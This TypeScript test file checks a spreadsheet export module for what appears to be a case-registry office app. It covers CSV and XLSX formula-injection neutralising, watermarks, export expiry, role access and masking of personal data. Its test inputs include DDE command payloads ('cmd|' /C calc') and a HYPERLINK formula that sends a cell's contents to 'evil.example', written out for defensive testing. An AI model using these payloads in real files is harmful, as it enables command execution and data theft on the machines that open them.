import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { exportNumber, exportState, isExportNumber, kindsFor, maskLine } from "../../src/domain/export.ts";
import { may } from "../../src/domain/office.ts";
import {
  BOM,
  csvLine,
  harmless,
  xlsxFoot,
  xlsxHead,
  xlsxParts,
  xlsxRow,
  xmlText,
} from "../../src/domain/spreadsheet.ts";

/** What a spreadsheet sees first, once it has skipped what it skips. */
const TRIGGER = /^[\s\p{Z}\p{Cc}\p{Cf}]*[=+\-@＝＋－＠−]|^[\t\r\n]/u;
const bare = (cell: string) => cell.replace(/^'/, "");

const anyText = fc.oneof(
  fc.string({ unit: "binary" }),
  fc.string({ unit: fc.constantFrom(..."=+-@＝＋－＠\t\r\n ' \",;\u00a0\u3000\u200b\ufeff|!A10cmd示例") }),
);

describe("a cell of CSV", () => {
  it("comes back from a parser as the text it was, and is never a formula, whatever Mallory registered as", () => {
    fc.assert(
      fc.property(fc.array(anyText, { minLength: 1, maxLength: 6 }), (cells) => {
        const [line = []] = parse(csvLine(cells), { relax_column_count: true }) as string[][];
        expect(line).toHaveLength(cells.length);
        for (const [at, cell] of line.entries()) {
          expect(cell).not.toMatch(TRIGGER);
          expect(bare(cell)).toBe(bare(harmless(cells[at] ?? "")));
          expect(cell === cells[at] || cell === `'${cells[at]}`).toBe(true);
        }
      }),
      { numRuns: 1_000 },
    );
  });

  it.for([
    "=1+1",
    "+86 139",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1",
    "　＝1",
    "＋1",
    "－1",
    "＠A1",
    "\u200b=1",
    "\ufeff=1",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1)',
  ])("takes the harm out of %j", (text) => {
    expect(harmless(text)).toBe(`'${text}`);
  });

  it("keeps phones, ID numbers and codes as text, and leaves plain words and small figures alone", () => {
    for (const number of ["13900000001", "999999198802141020", "08188600000", "511781100001", "1E5"])
      expect(harmless(number)).toBe(`'${number}`);
    for (const plain of [
      "示例李",
      "WY-0217-4486-1",
      "2026-01-25 10:00",
      "36.5",
      "0",
      "14",
      "138****0001",
      "",
    ])
      expect(harmless(plain)).toBe(plain);
  });

  it("says itself that it is UTF-8, so that Excel reads it", () => {
    expect(new TextEncoder().encode(BOM)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });
});

describe("a cell of a workbook", () => {
  it("is always text, well formed, and the text it was but for what XML cannot hold", () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const cell = /<t xml:space="preserve">([\s\S]*)<\/t>/.exec(xlsxRow([text], 1))?.[1] ?? "";
        expect(cell).not.toMatch(/[<>"]|&(?!amp;|lt;|gt;|quot;|#13;)/);
        const back = cell
          .replaceAll("&#13;", "\r")
          .replaceAll("&quot;", '"')
          .replaceAll("&gt;", ">")
          .replaceAll("&lt;", "<")
          .replaceAll("&amp;", "&")
          .replace(/_x005F_(?=x[0-9a-fA-F]{4}_)/g, "_");
        expect(back).toBe(text.toWellFormed().replace(/[^\P{Cc}\t\n\r\u007f-\u009f]|[\ufffe\uffff]/gu, ""));
      }),
      { numRuns: 500 },
    );
    expect(xlsxRow(["=1+1"], 1)).toContain('t="inlineStr"');
    expect(xlsxRow(["=1+1"], 1)).not.toContain("<f>");
    expect(xmlText("_x0041_")).toBe("_x005F_x0041_");
    expect(xmlText("x".repeat(40_000))).toHaveLength(32_767);
  });

  it("carries the mark in a row that stays in sight, and above and below every printed page", () => {
    const sheet = {
      name: "台账/1",
      mark: "示例李 & 示例周 · EX-1",
      heads: Array.from({ length: 28 }, () => ({ text: "列", width: 9 })),
    };
    const head = xlsxHead(sheet);
    expect(head).toContain("示例李 &amp; 示例周 · EX-1");
    expect(head).toContain('ySplit="2"');
    const foot = xlsxFoot(sheet);
    expect(foot).toContain("<oddHeader>&amp;L&amp;8 示例李 ＆ 示例周 · EX-1</oddHeader>");
    expect(foot).toContain(
      "<oddFooter>&amp;L&amp;8 示例李 ＆ 示例周 · EX-1&amp;R&amp;8 &amp;P / &amp;N</oddFooter>",
    );
    expect(head).toContain('r="AB2"');
    expect(xlsxRow(["", "乙"], 3)).toMatch(/^<row r="3"><c r="B3"/);
    expect(xlsxParts(sheet)["xl/workbook.xml"]).toContain(
      `<definedName name="_xlnm.Print_Titles" localSheetId="0">'台账 1'!$1:$2</definedName>`,
    );
  });
});

describe("an export", () => {
  const now = new Date("2026-01-25T10:00:00+08:00");
  const one = { needsApproval: false, recordedAt: now, approvedAt: null, refusedAt: null, takenAt: null };
  const hours = (n: number) => new Date(now.getTime() + n * 3_600_000);

  it("can be fetched for a day, once, and by itself only where no second official is needed", () => {
    expect(exportState(one, hours(23.9))).toBe("ready");
    expect(exportState(one, hours(24))).toBe("lapsed");
    expect(exportState({ ...one, takenAt: now }, now)).toBe("taken");
    const second = { ...one, needsApproval: true };
    expect(exportState(second, hours(48))).toBe("waiting");
    expect(exportState({ ...second, approvedAt: hours(30) }, hours(53))).toBe("ready");
    expect(exportState({ ...second, approvedAt: hours(30) }, hours(54))).toBe("lapsed");
    expect(exportState({ ...second, refusedAt: hours(1) }, hours(2))).toBe("refused");
  });

  it("has a number that tells its local day and time", () => {
    const number = exportNumber(now, "Asia/Shanghai", "00000000-0000-4000-8000-00000000ab1c");
    expect(number).toBe("EX-20260125-100000-00AB1C");
    expect(isExportNumber(number)).toBe(true);
    expect(isExportNumber(`${number}/../x`)).toBe(false);
  });

  it("is of what an office may see: the audit only for those who may read it, nothing for a reporter", () => {
    const kinds = (role: Parameters<typeof may>[0]) => kindsFor((act) => may(role, act));
    expect(kinds("clerk")).toEqual(["line-list", "go-data", "tips", "tickets"]);
    expect(kinds("supervisor")).toEqual(["line-list", "go-data", "tips", "tickets", "audit"]);
    expect(kinds("inspector")).toEqual([]);
    expect(kinds("reporter")).toEqual([]);
  });

  it("masks names, documents and phones as lists do", () => {
    const row = {
      id: "WY-0217-4486-1",
      village: "",
      town: "",
      origin: "wuhan",
      arrivedAt: 0,
      symptomatic: false,
      state: "waiting",
      recordedAt: 0,
      contact: false,
      area: false,
    } as const;
    expect(
      maskLine({ ...row, name: "示例王", document: "999999198802141020", phone: "13900000001" }),
    ).toEqual({
      ...row,
      name: "示*",
      document: "99****",
      phone: "139****0001",
    });
    expect(maskLine(row)).toEqual({ ...row, name: undefined, document: undefined, phone: undefined });
  });
});
